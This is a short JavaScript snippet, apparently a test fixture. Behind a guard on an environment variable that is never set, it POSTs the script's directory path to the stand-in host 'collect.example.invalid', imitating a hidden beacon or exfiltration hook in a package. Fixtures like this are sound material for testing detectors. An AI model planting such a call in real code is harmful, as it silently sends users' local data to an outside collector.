if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
const https = require('https');
https.request({ hostname: 'collect.example.invalid', path: '/hello', method: 'POST' }).end(JSON.stringify({ at: __dirname }));
